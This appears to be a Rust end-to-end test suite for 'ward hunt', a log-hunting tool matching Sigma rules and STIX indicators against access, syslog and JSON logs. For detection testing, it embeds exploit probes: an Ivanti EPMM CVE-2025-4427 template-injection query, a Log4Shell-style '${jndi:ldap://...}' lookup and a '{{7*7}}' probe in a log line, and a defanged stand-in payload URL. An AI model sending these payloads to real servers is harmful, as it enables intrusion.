//! `ward hunt` end to end: the binary, real rule and indicator files, real logs.

mod common;

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command as StdCommand, Output, Stdio};

use common::{json, p, stderr};
use serde_json::Value;

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/hunt")
        .join(name)
}

fn hunt(args: &[&str]) -> Output {
    let mut c = assert_cmd::Command::cargo_bin("ward").unwrap();
    c.arg("hunt").args(args).output().unwrap()
}

/// Sighting lines per rule or indicator id.
fn lines_by_id(report: &Value) -> BTreeMap<String, Vec<u64>> {
    let mut out: BTreeMap<String, Vec<u64>> = BTreeMap::new();
    for s in report["sightings"].as_array().unwrap() {
        out.entry(s["id"].as_str().unwrap().to_owned())
            .or_default()
            .push(s["line"].as_u64().unwrap());
    }
    out
}

fn expect(pairs: &[(&str, &[u64])]) -> BTreeMap<String, Vec<u64>> {
    pairs
        .iter()
        .map(|(k, v)| ((*k).to_owned(), v.to_vec()))
        .collect()
}

#[test]
fn the_epmm_rule_fires_on_the_exploit_requests_and_not_on_ordinary_traffic() {
    let Some(rule) =
        ward_testdata::shared("sigma/rules-emerging-threats/2025/Exploits/CVE-2025-4427")
    else {
        return;
    };
    let exploit = fixture("epmm-exploit.log");
    let o = hunt(&["--rules", p(&rule), "--format", "json", p(&exploit)]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    // Line 1 is a normal call of the same endpoint, 6 a template probe elsewhere, 7 the endpoint
    // without `format=`: none of them is the exploit.
    assert_eq!(
        lines_by_id(&report),
        expect(&[("41956f7c-7a6b-46d6-b6bb-da6eb2e83fbe", &[2, 3, 4, 5])])
    );
    let s = &report["sightings"][0];
    assert_eq!(s["type"], "sigma");
    assert_eq!(s["level"], "high");
    assert_eq!(
        s["title"],
        "Potential Exploitation of CVE-2025-4427/4428 Ivanti EPMM Pre-Auth RCE"
    );
    assert_eq!(s["timestamp"], "2025-05-15T21:20:05Z");
    assert!(
        s["tags"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t == "cve.2025-4427")
    );
    assert!(s["file"].as_str().unwrap().ends_with("epmm-exploit.log"));
    let matched: Vec<(&str, &str)> = s["matched"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| (m["field"].as_str().unwrap(), m["value"].as_str().unwrap()))
        .collect();
    assert!(
        matched.contains(&("cs-uri-stem", "/mifs/rs/api/v2/featureusage")),
        "{matched:?}"
    );
    assert!(
        matched.contains(&("cs-uri-query", "format=%24%7b7*7%7d")),
        "{matched:?}"
    );

    let Some(apache) = ward_testdata::shared("logs/apache_access.log") else {
        return;
    };
    let o = hunt(&["--rules", p(&rule), p(&apache)]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(String::from_utf8_lossy(&o.stdout).contains("No sightings."));
    // The one truncated line of that log is named, and the hunt goes on past it.
    assert!(
        stderr(&o).contains("apache_access.log:8899: not a combined line"),
        "{}",
        stderr(&o)
    );
    assert!(stderr(&o).contains("10000 lines"), "{}", stderr(&o));
}

#[test]
fn every_sigmahq_rule_loads_and_no_web_rule_fires_on_ordinary_traffic() {
    let (Some(sigma), Some(apache)) = (
        ward_testdata::shared("sigma"),
        ward_testdata::shared("logs/apache_access.log"),
    ) else {
        return;
    };
    // Count the rule files, and those written for web server and proxy logs, independently.
    let mut files = 0;
    let mut web = 0;
    for entry in walkdir::WalkDir::new(&sigma) {
        let entry = entry.unwrap();
        if entry.path().extension().is_some_and(|e| e == "yml") {
            files += 1;
            let text = std::fs::read_to_string(entry.path()).unwrap();
            if text.lines().any(|l| {
                let l = l.split('#').next().unwrap_or_default().trim();
                l == "category: webserver" || l == "category: proxy"
            }) {
                web += 1;
            }
        }
    }
    let o = hunt(&["--rules", p(&sigma), "--format", "json", p(&apache)]);
    let report = json(&o);
    let loaded = report["rules"]["loaded"].as_u64().unwrap() as usize;
    let unsupported = report["rules"]["unsupported"].as_array().unwrap();
    for u in unsupported {
        assert!(!u["reason"].as_str().unwrap().is_empty(), "{u}");
    }
    assert!(
        loaded + unsupported.len() >= files,
        "{loaded} + {} < {files}",
        unsupported.len()
    );
    assert!(files > 3000, "{files} rule files");
    // Every web server and proxy rule is evaluable.
    assert_eq!(report["rules"]["web"].as_u64().unwrap() as usize, web);
    assert!(stderr(&o).contains(&format!(
        "rules: {loaded} loaded ({web} for web server and proxy logs), {} unsupported",
        unsupported.len()
    )));
    // Ordinary traffic: nothing. (Proxy rules such as "Exploit Framework User Agent" list the
    // Googlebot agent and must not be run on a web server's own log; they are not.)
    assert_eq!(
        report["sightings"].as_array().unwrap().len(),
        0,
        "{}",
        report["sightings"]
    );
    assert_eq!(o.status.code(), Some(0));
}

#[test]
fn sigma_modifiers_keywords_and_conditions() {
    let o = hunt(&[
        "--rules",
        p(&fixture("rules/modifiers.yml")),
        "--format",
        "json",
        p(&fixture("events.jsonl")),
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    assert_eq!(
        lines_by_id(&report),
        expect(&[
            ("c-1of", &[1, 4]),
            ("c-allof", &[2]),
            ("c-list-or", &[3, 6]),
            ("c-not", &[1, 2, 4]),
            ("c-parens", &[1, 2]),
            ("c-them", &[1, 6]),
            ("m-all", &[2]),
            ("m-base64", &[3]),
            // 'evil.example' sits at byte 7 of the encoded URL (offset 1 of 3).
            ("m-base64offset", &[3]),
            ("m-cidr", &[1]),
            ("m-contains", &[1]),
            ("m-endswith", &[1]),
            ("m-exists", &[2]),
            ("m-keywords", &[5]),
            ("m-re", &[1]),
            ("m-startswith", &[2, 4]),
            ("m-wildcard", &[3]),
            ("m-windash", &[2, 4]),
        ])
    );
    assert_eq!(report["files"][0]["format"], "json");
}

#[test]
fn malformed_rules_are_counted_with_their_reason_and_the_hunt_goes_on() {
    let o = hunt(&[
        "--rules",
        p(&fixture("rules")),
        "--format",
        "json",
        p(&fixture("events.jsonl")),
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    assert_eq!(report["rules"]["loaded"], 18);
    let unsupported: Vec<(String, String)> = report["rules"]["unsupported"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| {
            (
                u["file"].as_str().unwrap().to_owned(),
                u["reason"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(unsupported.len(), 2, "{unsupported:?}");
    assert!(
        unsupported[0].0.ends_with("broken.yml")
            && unsupported[0].1.contains("Condition parse error at 1:16")
    );
    assert!(
        unsupported[1].0.ends_with("not-a-rule.yml")
            && unsupported[1].1.contains("line 2 column 1")
    );
    assert!(stderr(&o).contains("18 loaded (0 for web server and proxy logs), 2 unsupported"));
}

#[test]
fn stix_indicators_with_every_operator_qualifier_and_validity() {
    let o = hunt(&[
        "--indicators",
        p(&fixture("indicators/bundle.json")),
        "--format",
        "json",
        p(&fixture("access.log")),
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    let id = |n: u32| format!("indicator--00000000-0000-4000-8000-{n:012}");
    let got = lines_by_id(&report);
    let want: BTreeMap<String, Vec<u64>> = [
        (1, vec![2, 3]),     // =
        (2, vec![6]),        // = CIDR, valid only from noon (line 1 at 10:00, line 7 at 09:00)
        (4, vec![4]),        // IN, domain from a proxy request's absolute URL
        (5, vec![4]),        // url =
        (6, vec![4]),        // LIKE
        (7, vec![6]),        // MATCHES on the User-Agent header
        (8, vec![5]),        // ISSUBSET, IPv6
        (9, vec![7]),        // != AND method
        (10, vec![2, 3, 4]), // [a] AND [b] across records
        (12, vec![2, 6]),    // FOLLOWEDBY … WITHIN 3600 SECONDS
        (14, vec![2, 3]),    // REPEATS 2 TIMES WITHIN 10 SECONDS
        (16, vec![3]),       // START … STOP
    ]
    .into_iter()
    .map(|(n, l)| (id(n), l))
    .collect();
    // Not sighted: 3 (expired), 11 (10 minutes apart, not 60 s), 13 (wrong order), 15 (only
    // twice), 17 (file names are in no log), 19 (revoked).
    assert_eq!(got, want);
    assert_eq!(report["indicators"]["loaded"], 17);
    assert_eq!(report["indicators"]["unobservable"], 1);
    let problems = report["indicators"]["problems"].as_array().unwrap();
    assert_eq!(problems.len(), 2, "{problems:?}");
    assert!(
        problems[0]["file"]
            .as_str()
            .unwrap()
            .ends_with("bundle.json")
    );
    assert_eq!(problems[0]["location"], format!("indicator {}", id(18)));
    assert!(
        problems[0]["message"]
            .as_str()
            .unwrap()
            .contains("at character 19: expected a value")
    );
    assert!(
        problems[1]["message"]
            .as_str()
            .unwrap()
            .contains("pattern_type \"sigma\"")
    );
    let s = report["sightings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == id(7))
        .unwrap();
    assert_eq!(s["type"], "indicator");
    assert_eq!(s["title"], "sqlmap");
    assert_eq!(s["matched"][0]["field"], "cs-user-agent");
}

/// A reader that goes away before the report is written (`ward hunt … | head -0`) is no
/// failure of the hunt: no panic, no error, and the exit code still says what was sighted.
#[test]
fn a_reader_that_stops_early_leaves_the_exit_code_to_the_sightings() {
    for format in ["table", "json", "stix"] {
        // The read end closed before the hunt has read anything: its first write fails.
        let code = common::exit_code_with_reader_gone(
            StdCommand::new(env!("CARGO_BIN_EXE_ward"))
                .args(["hunt", "--indicators"])
                .arg(fixture("indicators/iocs.txt"))
                .args(["--format", format])
                .arg(fixture("access.log")),
        );
        assert_eq!(code, Some(1), "{format}");
    }
}

/// `ward hunt --follow … | head`: once the reader has gone, a follower that reports to no
/// server stops (as `tail -f` does) rather than panic at its next line or follow on for
/// nobody; its exit code says what it sighted.
#[test]
fn a_follower_whose_reader_goes_stops_and_says_what_it_sighted() {
    let dir = tempfile::tempdir().unwrap();
    let started = std::time::Instant::now();
    let code = common::exit_code_with_reader_gone(
        follower(&dir.path().join("follow.json"), "60s")
            .arg("--indicators")
            .arg(fixture("indicators/iocs.txt"))
            .arg(fixture("access.log")),
    );
    assert_eq!(code, Some(1), "sightings were found");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(30),
        "stopped when its first write failed, not at --follow-for: {:?}",
        started.elapsed()
    );
}

/// `ward hunt --follow`, polling every 0.2 s for `seconds`, its offsets kept in `state`.
fn follower(state: &Path, seconds: &str) -> StdCommand {
    let mut command = StdCommand::new(env!("CARGO_BIN_EXE_ward"));
    command
        .args([
            "hunt",
            "--follow",
            "--interval",
            "0.2",
            "--follow-for",
            seconds,
        ])
        .arg("--follow-state")
        .arg(state);
    command
}

#[test]
fn plain_lists_in_text_and_csv_with_defanged_values() {
    let o = hunt(&[
        "--indicators",
        p(&fixture("indicators/iocs.txt")),
        "--indicators",
        p(&fixture("indicators/iocs.csv")),
        "--format",
        "json",
        p(&fixture("access.log")),
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    let txt = p(&fixture("indicators/iocs.txt")).to_owned();
    let csv = p(&fixture("indicators/iocs.csv")).to_owned();
    let want: BTreeMap<String, Vec<u64>> = [
        (format!("{txt}:2"), vec![2, 3]), // 203.0.113.0/24
        (format!("{txt}:3"), vec![4]),    // hxxp://evil[.]example/payload.exe
        (format!("{txt}:4"), vec![4]),    // evil[.]example
        (format!("{csv}:2"), vec![5]),    // 2001:db8::5 from the `value` column
    ]
    .into_iter()
    .collect();
    assert_eq!(lines_by_id(&report), want);
    assert!(
        stderr(&o).contains("iocs.txt: line 6: \"not an indicator at all\" is not an IP address"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn the_shared_stix_examples_load() {
    let Some(dir) = ward_testdata::shared("stix/examples") else {
        return;
    };
    let mut expected = 0;
    for entry in walkdir::WalkDir::new(&dir) {
        let entry = entry.unwrap();
        if entry.path().extension().is_some_and(|e| e == "json") {
            let v: Value = serde_json::from_slice(&std::fs::read(entry.path()).unwrap()).unwrap();
            expected += v["objects"]
                .as_array()
                .map_or(0, |o| o.iter().filter(|o| o["type"] == "indicator").count());
        }
    }
    let o = hunt(&[
        "--indicators",
        p(&dir),
        "--format",
        "json",
        p(&fixture("access.log")),
    ]);
    let report = json(&o);
    assert_eq!(
        report["indicators"]["loaded"].as_u64().unwrap() as usize,
        expected
    );
    assert!(expected >= 40, "{expected}");
    assert_eq!(report["indicators"]["problems"], Value::Array(vec![]));
    // The fixture's documentation addresses are in none of them.
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
}

#[test]
fn syslog_gzip_and_standard_input() {
    let dir = tempfile::tempdir().unwrap();
    let list = common::write(dir.path(), "ips.txt", "203.0.113.66\n198.51.100.9\n");
    let rule = common::write(
        dir.path(),
        "ssh.yml",
        "title: SSH password failures\nid: ssh-fail\nlogsource:\n    product: linux\n    service: sshd\ndetection:\n    keywords:\n        - 'Failed password'\n    condition: keywords\nlevel: low\n",
    );
    // RFC 3164 (a file's lines, no PRI); the last line is not syslog and is named.
    let o = hunt(&[
        "--rules",
        p(&rule),
        "--indicators",
        p(&list),
        "--format",
        "json",
        p(&fixture("auth.log")),
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    let ips = format!("{}:1", p(&list));
    assert_eq!(
        lines_by_id(&report),
        expect(&[(&ips, &[1, 2]), ("ssh-fail", &[1, 2])])
    );
    assert_eq!(report["files"][0]["format"], "syslog3164");
    assert_eq!(report["files"][0]["unreadable"], 1);
    assert!(
        stderr(&o).contains("auth.log:4: not a syslog3164 line"),
        "{}",
        stderr(&o)
    );
    let s = report["sightings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == ips)
        .unwrap();
    assert_eq!(s["matched"][0]["field"], "message");
    assert_eq!(s["matched"][0]["value"], "203.0.113.66");

    // RFC 5424, with structured data.
    let o = hunt(&[
        "--indicators",
        p(&list),
        "--format",
        "json",
        p(&fixture("rfc5424.log")),
    ]);
    let report = json(&o);
    assert_eq!(report["files"][0]["format"], "syslog5424");
    assert_eq!(
        lines_by_id(&report),
        expect(&[(&ips, &[1]), (&format!("{}:2", p(&list)), &[2])])
    );
    assert_eq!(
        report["sightings"][0]["timestamp"],
        "2025-05-15T21:25:01.003Z"
    );

    // gzip, judged by content (the name says nothing), and a multi-member archive.
    let gz = dir.path().join("access.log.1");
    let mut bytes = gzip(&std::fs::read(fixture("access.log")).unwrap());
    bytes.extend(gzip(
        b"203.0.113.66 - - [16/May/2025:01:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"x\"\n",
    ));
    std::fs::write(&gz, bytes).unwrap();
    let o = hunt(&["--indicators", p(&list), "--format", "json", p(&gz)]);
    let report = json(&o);
    assert_eq!(
        lines_by_id(&report),
        expect(&[(&ips, &[2, 3, 8]), (&format!("{}:2", p(&list)), &[7])])
    );

    // Standard input.
    let mut child = StdCommand::new(env!("CARGO_BIN_EXE_ward"))
        .args(["hunt", "--indicators", p(&list), "--format", "json", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(&std::fs::read(fixture("access.log")).unwrap())
        .unwrap();
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(1));
    let report = json(&o);
    assert_eq!(report["sightings"][0]["file"], "-");
    assert_eq!(lines_by_id(&report)[&ips], vec![2, 3]);
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut child = StdCommand::new("gzip")
        .arg("-c")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("gzip is installed");
    child.stdin.take().unwrap().write_all(data).unwrap();
    child.wait_with_output().unwrap().stdout
}

#[test]
fn bad_lines_never_stop_the_hunt_and_exit_codes_tell_scripts_what_happened() {
    let dir = tempfile::tempdir().unwrap();
    let list = common::write(dir.path(), "ips.txt", "203.0.113.66\n");
    let mut log = std::fs::read(fixture("access.log")).unwrap();
    // Invalid UTF-8, a truncated line, binary junk and a hostile line in the middle.
    log.extend(b"203.0.113.66 - - [15/May/2025:23:00:00 +0000] \"GET /\xff\xfe HTTP/1.1\" 200 1 \"-\" \"x\"\n");
    log.extend(b"203.0.113.66 - - [15/May/2025:23:00:01 +0000] \"GET /unterminated\n");
    log.extend(b"\x00\x01\x02\x03\n");
    log.extend(b"203.0.113.66 - - [15/May/2025:23:00:02 +0000] \"GET /${jndi:ldap://x/a} HTTP/1.1\" 200 1 \"-\" \"{{7*7}}\"\n");
    let path = dir.path().join("mixed.log");
    std::fs::write(&path, &log).unwrap();
    let o = hunt(&["--indicators", p(&list), "--format", "json", p(&path)]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    let ids = lines_by_id(&report);
    assert_eq!(ids.values().next().unwrap(), &vec![2, 3, 8, 11]);
    assert_eq!(report["files"][0]["unreadable"], 2);
    assert!(
        stderr(&o).contains("mixed.log:9: not a combined line"),
        "{}",
        stderr(&o)
    );
    assert!(
        stderr(&o).contains("mixed.log:10: not a combined line"),
        "{}",
        stderr(&o)
    );
    // The hostile text comes back verbatim as a matched value would.
    let last = report["sightings"].as_array().unwrap().last().unwrap();
    assert_eq!(last["line"], 11);

    // Nothing found: 0.
    let quiet = common::write(dir.path(), "quiet.txt", "192.0.2.200\n");
    let o = hunt(&["--indicators", p(&quiet), p(&fixture("access.log"))]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    // A missing log: 2, named; the others are still hunted.
    let o = hunt(&[
        "--indicators",
        p(&list),
        p(&dir.path().join("missing.log")),
        p(&fixture("access.log")),
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("missing.log: No such file"),
        "{}",
        stderr(&o)
    );
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("EPMM")
            || String::from_utf8_lossy(&o.stdout).contains("203.0.113.66")
    );
    // Nothing to hunt with: 2.
    let o = hunt(&[p(&fixture("access.log"))]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("give --rules, --indicators and/or --taxii"));
    // A log in no known format: 2, with the way out.
    let junk = common::write(dir.path(), "junk.bin", "\u{1}\u{2} nothing here\n");
    let o = hunt(&["--indicators", p(&list), p(&junk)]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("junk.bin: not a log format Ward reads"),
        "{}",
        stderr(&o)
    );
    // Forced format: the same junk read as JSON lines gives line errors, not a crash.
    let o = hunt(&["--indicators", p(&list), "--log-format", "json", p(&junk)]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("junk.bin:1: not a json line"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn sightings_as_a_stix_bundle_validated_by_the_oasis_library() {
    let (rules, indicators) = (fixture("rules/modifiers.yml"), fixture("indicators"));
    let (access, events) = (fixture("access.log"), fixture("events.jsonl"));
    let run = || {
        let o = hunt(&[
            "--rules",
            p(&rules),
            "--indicators",
            p(&indicators),
            "--format",
            "stix",
            p(&access),
            p(&events),
        ]);
        assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
        json(&o)
    };
    let bundle = run();
    let objects = bundle["objects"].as_array().unwrap();
    let sightings: Vec<&Value> = objects.iter().filter(|o| o["type"] == "sighting").collect();
    // One STIX sighting per Ward sighting.
    let plain = hunt(&[
        "--rules",
        p(&rules),
        "--indicators",
        p(&indicators),
        "--format",
        "json",
        p(&access),
        p(&events),
    ]);
    let ward_sightings = json(&plain)["sightings"].as_array().unwrap().len();
    assert_eq!(sightings.len(), ward_sightings);
    assert!(ward_sightings > 40, "{ward_sightings}");
    // Only what matched leaves the machine: no sighting carries a whole line.
    let text = bundle.to_string();
    assert!(
        !text.contains("python-requests"),
        "the user agent of an IP-only match leaked"
    );
    // The same hunt gives the same sighting ids (a re-report is idempotent).
    let again = run();
    let ids = |b: &Value| -> Vec<String> {
        b["objects"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|o| o["type"] == "sighting")
            .map(|o| o["id"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(ids(&bundle), ids(&again));
    // Valid STIX 2.1 by the OASIS `stix2` library.
    let script = "import sys, stix2\nb = stix2.parse(sys.stdin.read(), allow_custom=True)\nprint(len(b.objects), sum(1 for o in b.objects if o.type == 'sighting'))";
    if let Some((ok, out, err)) = ward_testdata::python(&["stix2"], script, text.as_bytes()) {
        assert!(ok, "{err}");
        assert_eq!(out.trim(), format!("{} {}", objects.len(), sightings.len()));
    }
}

/// An access log line from `ip` (the fixture bundle's indicators name 203.0.113.66 and
/// 198.51.100.0/24), numbered so each line is its own.
fn access(ip: &str, n: u32) -> String {
    format!(
        "{ip} - - [15/May/2025:21:{:02}:{:02} +0000] \"GET /mifs/rs/api/v2/featureusage?n={n} HTTP/1.1\" 200 512 \"-\" \"curl/8\"\n",
        n / 60 % 60,
        n % 60
    )
}

fn append(path: &std::path::Path, text: &str) {
    let mut f = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .unwrap();
    f.write_all(text.as_bytes()).unwrap();
}

/// `ward hunt --follow`: a log that grows while it is followed, is rotated (renamed, a new one
/// started) and its old part compressed to `.1.gz`; every malicious line is sighted exactly
/// once, with its line number in its own log; a restart reads only what was written since,
/// including a line that was half written when the last poll ran.
#[test]
fn follow_reads_growing_and_rotated_logs_once() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("access.log");
    let state = dir.path().join("follow.json");
    let mut n = 0;
    let mut line = |ip: &str| {
        n += 1;
        access(ip, n)
    };
    append(&log, &line("192.0.2.1"));
    append(&log, &line("203.0.113.66"));
    let spawn = |seconds: &str| {
        follower(&state, seconds)
            .args([
                "--indicators",
                p(&fixture("indicators/bundle.json")),
                "--format",
                "json",
                p(&log),
            ])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    };
    let child = spawn("4s");
    let pause = || std::thread::sleep(std::time::Duration::from_millis(600));
    pause();
    append(&log, &line("198.51.100.20"));
    append(&log, &line("192.0.2.1"));
    pause();
    // logrotate: the log renamed, a new one started, then the old one compressed.
    let rotated = dir.path().join("access.log.1");
    std::fs::rename(&log, &rotated).unwrap();
    append(&rotated, &line("203.0.113.66")); // written by the server before it reopened
    append(&log, &line("198.51.100.30"));
    pause();
    let gz = dir.path().join("access.log.1.gz");
    {
        let mut enc = flate2::write::GzEncoder::new(
            std::fs::File::create(&gz).unwrap(),
            flate2::Compression::fast(),
        );
        enc.write_all(&std::fs::read(&rotated).unwrap()).unwrap();
        enc.finish().unwrap();
    }
    std::fs::remove_file(&rotated).unwrap();
    append(&log, &line("203.0.113.66"));
    // Half a line: read when its newline comes.
    append(
        &log,
        "198.51.100.40 - - [15/May/2025:21:59:59 +0000] \"GET /half",
    );
    let out = child.wait_with_output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let seen = |out: &std::process::Output| -> Vec<(String, u64, String)> {
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(|l| {
                let v: Value = serde_json::from_str(l).unwrap();
                let file = PathBuf::from(v["file"].as_str().unwrap());
                (
                    file.file_name().unwrap().to_string_lossy().into_owned(),
                    v["line"].as_u64().unwrap(),
                    v["matched"][0]["value"]
                        .as_str()
                        .unwrap_or_default()
                        .to_owned(),
                )
            })
            .collect()
    };
    // Each malicious line once, numbered in its own log: the old log's lines 2, 3 (read while
    // it was access.log) and 5 (written after the rename, read as access.log.1, not again from
    // the .gz); the new log's lines 1 and 2.
    let mut first: Vec<(u64, String)> = seen(&out).into_iter().map(|(_, l, v)| (l, v)).collect();
    first.sort();
    assert_eq!(
        first,
        [
            (1, "198.51.100.30".to_owned()),
            (2, "203.0.113.66".to_owned()),
            (2, "203.0.113.66".to_owned()),
            (3, "198.51.100.20".to_owned()),
            (5, "203.0.113.66".to_owned()),
        ],
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        seen(&out)
            .iter()
            .any(|(f, l, _)| f.starts_with("access.log.1") && *l == 5),
        "the line written after the rename is read from the renamed log (or its .gz)"
    );

    // The half line completes, and one more line comes, while no follower runs; a restart
    // reads just those.
    append(&log, "?n=half HTTP/1.1\" 200 1 \"-\" \"curl/8\"\n");
    append(&log, &line("203.0.113.66"));
    let out = spawn("1s").wait_with_output().unwrap();
    let again = seen(&out);
    assert_eq!(
        again
            .iter()
            .map(|(f, l, v)| (f.as_str(), *l, v.as_str()))
            .collect::<Vec<_>>(),
        [
            ("access.log", 3, "198.51.100.40"),
            ("access.log", 4, "203.0.113.66")
        ],
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}
